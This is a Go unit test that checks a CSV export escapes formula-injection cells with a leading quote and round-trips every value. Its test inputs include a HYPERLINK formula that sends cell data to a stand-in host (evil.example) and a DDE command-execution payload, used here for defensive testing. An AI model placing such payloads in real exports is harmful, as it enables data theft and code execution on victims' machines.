package main

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestCellsRoundTrip: cells that a spreadsheet would run start with a quote once written; every
// cell, a genuine leading quote included, reads back as it was through a
// real CSV writer and reader.
func TestCellsRoundTrip(t *testing.T) {
	cells := []string{
		`=HYPERLINK("https://evil.example/?x="&A1,"click")`,
		`=cmd|' /C calc'!A0`,
		"+1", "-1", "@SUM(A1:A9)", "\tTAB", "\rCR", "'quoted", "''two",
		"plain", "", "3f2b6c1e-8d4a-4c1b-9a7e-2f0d5b8c9e11", "10.00", "a=b",
	}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	if err := w.Write(cellRow(append([]string(nil), cells...))); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	got, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range cells {
		switch c[:min(len(c), 1)] {
		case "=", "+", "-", "@", "\t", "\r", "'":
			if got[i] != "'"+c {
				t.Errorf("cell %q written as %q, want a quote before it", c, got[i])
			}
		default:
			if got[i] != c {
				t.Errorf("cell %q written as %q, want it unchanged", c, got[i])
			}
		}
		if back := restore(got[i]); back != c {
			t.Errorf("cell %q read back as %q", c, back)
		}
	}
}
